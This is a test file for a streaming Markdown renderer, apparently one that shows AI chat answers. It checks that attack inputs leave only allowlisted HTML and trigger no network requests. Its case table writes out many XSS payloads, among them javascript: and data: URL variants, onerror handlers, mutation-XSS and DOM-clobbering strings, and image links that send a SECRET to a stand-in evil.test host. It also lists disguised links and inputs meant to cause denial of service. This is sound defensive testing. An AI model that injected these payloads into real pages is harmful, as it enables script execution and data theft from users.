import { afterEach, beforeEach, expect, test } from 'vitest';
import { BlockSplitter } from './block-splitter.ts';
import { StreamingMarkdown } from './streaming-markdown.ts';

/** Everything that may be in the page after any answer. What is not listed here is a hole. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  P: ['dir', 'class'],
  H3: ['dir'],
  H4: ['dir'],
  H5: ['dir'],
  H6: ['dir'],
  UL: [],
  OL: ['start'],
  LI: ['dir', 'class'],
  BLOCKQUOTE: ['dir'],
  STRONG: [],
  EM: [],
  DEL: [],
  CODE: [],
  BR: [],
  HR: [],
  A: ['dir', 'href', 'title', 'target', 'rel', 'referrerpolicy'],
  SPAN: ['class', 'role', 'aria-label'],
  IMG: ['src', 'alt'],
  DIV: ['class', 'tabindex', 'role', 'aria-label'],
  BUTTON: ['type', 'class'],
  PRE: ['class', 'dir', 'tabindex', 'role', 'aria-label'],
  TABLE: [],
  THEAD: [],
  TBODY: [],
  TR: [],
  TH: ['dir', 'class'],
  TD: ['dir', 'class'],
};

const CLASSES = /^(?:part|verbatim|task|place|picture|box(?: checked)?|code|bar|copy|table|long|center|left|right)$/;

const CASES: Readonly<Record<string, readonly string[]>> = {
  '1 image': ['![x](https://evil.test/?q=SECRET)', '![x](<https://evil.test/?q=SECRET> "t")'],
  '2 reference image': [
    '![x][a]\n\n[a]: https://evil.test/?q=1',
    '![x][a]\n[a]: https://evil.test/?q=1\n',
    '![a]\n\n[a]: //evil.test',
  ],
  '3 image in a link and in a table': [
    '[![x](https://evil.test/a.png)](https://evil.test)',
    '| a |\n|---|\n| [![x](https://evil.test/a.png)](javascript:alert(1)) |',
  ],
  '4 HTML that fetches': [
    '<img src=https://evil.test/a srcset="https://evil.test/b 2x">',
    '<picture><source srcset=https://evil.test/a><img></picture>',
    'text <video poster=https://evil.test/a></video><svg><image href=https://evil.test/a /></svg> text',
    '<img src=x onerror=alert(1)>',
  ],
  '5 address tricks': [
    '[a](//evil.test) [b](https:\\\\evil.test) [c](https://good.test@evil.test) [d](https://u:p@evil.test:8080/)',
    '[e](https:evil.test) [f](/\\evil.test) [g](https://evil.test%2f@good.test)',
  ],
  '6 CSS': [
    '<style>@import "https://evil.test/a.css"</style>',
    '<p style="background:url(https://evil.test/a)">x</p>',
    '```js" class="x" onclick="alert(1)\ncode\n```',
    '```"><img/src=https://evil.test>\ncode\n```',
  ],
  '7 script addresses': [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java&#10;script:alert(1)',
    'java\u0000script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    'java%73cript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'blob:https://evil.test/1',
    'file:///etc/passwd',
    'javascript&colon;alert(1)',
    'view-source:https://evil.test',
  ].flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `[x][r]\n\n[r]: ${address}`,
  ]),
  '8 autolinks': [
    '<javascript:alert(1)>',
    'www.evil.test/"onmouseover="alert(1)',
    'https://evil.test/<script>alert(1)</script>',
    '<https://evil.test/" onclick="x>',
  ],
  '9 raw HTML': [
    '<script>alert(1)</script>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=https://evil.test></object>',
    '<base href=https://evil.test>',
    '<meta http-equiv=refresh content="0;url=https://evil.test">',
    '<form action=https://evil.test><button>x</button></form>',
    'a <script>alert(1)</script> b',
    '- <script>alert(1)</script>\n- <link rel=stylesheet href=https://evil.test>',
  ],
  '10 mutation': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<template><script>alert(1)</script></template>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '`</code><img src=x onerror=alert(1)>`',
    '```\n</code></pre><img src=x onerror=alert(1)>\n```',
    '&lt;img src=x onerror=alert(1)&gt;',
  ],
  '11 clobbering': [
    '<a id=chat name=session>x</a>',
    '# location\n\n# document {#forms}\n',
    '[^1]\n\n[^1]: note',
    '<form id=alcove><input name=parentNode></form>',
  ],
  '12 split in a scheme or a tag': [
    'text [x](javascript:alert(1)) more',
    'text <img src="https://evil.test/a" onerror="alert(1)"> more',
    'text ![x](https://evil.test/abc',
  ],
  '13 disguised links': [
    '[\u202Egro.doog\u202C\u200B](https://evil.test)',
    '[good.test](https://xn--80ak6aa92e.test/) [аррӏе.test](https://аррӏе.test)',
    '[https://good.test/](https://evil.test/)',
  ],
};

let requests: string[] = [];
let observer: PerformanceObserver;

beforeEach(() => {
  requests = [];
  observer = new PerformanceObserver((list) => requests.push(...list.getEntries().map((entry) => entry.name)));
  observer.observe({ type: 'resource' });
});

afterEach(() => observer.disconnect());

function check(container: HTMLElement): void {
  for (const node of container.querySelectorAll('*')) {
    const attributes = ALLOWED[node.tagName];
    expect(attributes, `element ${node.tagName}`).toBeDefined();
    for (const { name, value } of node.attributes) {
      expect(attributes, `${node.tagName} ${name}="${value}"`).toContain(name);
      if (name === 'class') expect(value).toMatch(CLASSES);
      if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/[^@]+|mailto:[^?]*)$/);
      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
    }
    if (node instanceof HTMLAnchorElement && node.hasAttribute('href')) {
      expect(node.rel).toBe('noopener noreferrer nofollow');
      expect(node.referrerPolicy).toBe('no-referrer');
      expect(node.target).toBe('_blank');
    }
  }
}

async function settle(writer: StreamingMarkdown, container: HTMLElement): Promise<void> {
  while (!writer.isSettled) await new Promise(requestAnimationFrame);
  check(container);
}

async function draw(text: string, step: number): Promise<HTMLElement> {
  const container = document.createElement('div');
  document.body.append(container);
  const writer = new StreamingMarkdown(container);
  for (let end = step; end < text.length; end += step) {
    writer.update(text.slice(0, end), false);
    check(container);
  }
  writer.update(text, true);
  await settle(writer, container);
  container.remove();
  return container;
}

test.each(Object.entries(CASES))(
  'attack %s leaves nothing but allowed elements and fetches nothing',
  async (_, texts) => {
    const before = Object.keys(window).length;
    for (const text of texts) {
      await draw(text, Number.POSITIVE_INFINITY);
      await draw(text, 1);
    }
    expect(requests.filter((url) => !url.startsWith(location.origin))).toEqual([]);
    expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
    expect(Object.keys(window).length).toBe(before);
  },
);

test('raw HTML is shown as the text that it is', async () => {
  const container = await draw('<script>alert(1)</script>\n\nand <b>bold</b>', 1);
  expect(container.textContent).toBe('<script>alert(1)</script>and <b>bold</b>');
});

test('a picture is a placeholder that names its host', async () => {
  const container = await draw('![A **map**](https://evil.test/map.png?q=SECRET)', 1);
  expect(container.querySelector('.picture')?.textContent).toBe('Picture not fetched: A **map** (evil.test)');
});

test('a picture that is in the text itself is shown', async () => {
  const data = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=';
  const container = await draw(`![dot](${data})`, Number.POSITIVE_INFINITY);
  expect(container.querySelector('img')?.getAttribute('src')).toBe(data);
});

test('the host of a link is shown beside words that do not say it', async () => {
  const shown = async (text: string): Promise<string | null> => (await draw(text, 1)).textContent;
  expect(await shown('[https://good.test/](https://evil.test/)')).toBe('https://good.test/ (evil.test)');
  expect(await shown('[good.test\u202E](https://good.test.evil.test/)')).toBe('good.test (good.test.evil.test)');
  expect(await shown('[here](https://аррӏе.test/)')).toBe('here (xn--80ak6aa92e.test)');
  expect(await shown('<https://good.test/a>')).toBe('https://good.test/a');
  expect(await shown('[write](mailto:ada@good.test)')).toBe('write (ada@good.test)');
});

const HUGE: Readonly<Record<string, string>> = {
  'a line of 1 MB': 'a'.repeat(1_000_000),
  'a line of 1 MB with spaces': 'word '.repeat(200_000),
  '10 000 nested quotes': '>'.repeat(10_000),
  '10 000 nested quotes and lists': '> - '.repeat(10_000),
  '10 000 brackets': '['.repeat(10_000),
  '10 000 images': '![a]('.repeat(10_000),
  '10 000 stars': '*a_b'.repeat(10_000),
  '10 000 underscores': '_a'.repeat(10_000),
  '10 000 backticks': '`a``'.repeat(10_000),
  '10 000 angle brackets': '<a '.repeat(10_000),
  'a table of 100 000 cells': `${'|a'.repeat(10)}|\n${'|-'.repeat(10)}|\n${`${'|c'.repeat(10)}|\n`.repeat(10_000)}`,
  'a row of 10 000 cells': `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n`,
  'an open fence of 58 000 characters': `\`\`\`\n${'[](]['.repeat(11_600)}`,
  'a list that sinks in': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(2 * depth)}- a`).join('\n'),
};

test.each(Object.entries(HUGE))('attack 16, %s, is drawn in small pieces and no letter is lost', async (_, text) => {
  for (const block of new BlockSplitter().push(text, true)) {
    if (block.kind === 'text') expect(block.source.length).toBeLessThan(2 * 5_120);
  }
  const container = document.createElement('div');
  const writer = new StreamingMarkdown(container);
  for (let end = 0; end < text.length; end += Math.ceil(text.length / 8)) {
    writer.update(text.slice(0, end), false);
    await new Promise(requestAnimationFrame);
  }
  writer.update(text, true);
  await settle(writer, container);
  const count = (value: string): number => value.match(/[a-z]/g)?.length ?? 0;
  expect(count(container.textContent)).toBeGreaterThanOrEqual(count(text));
});
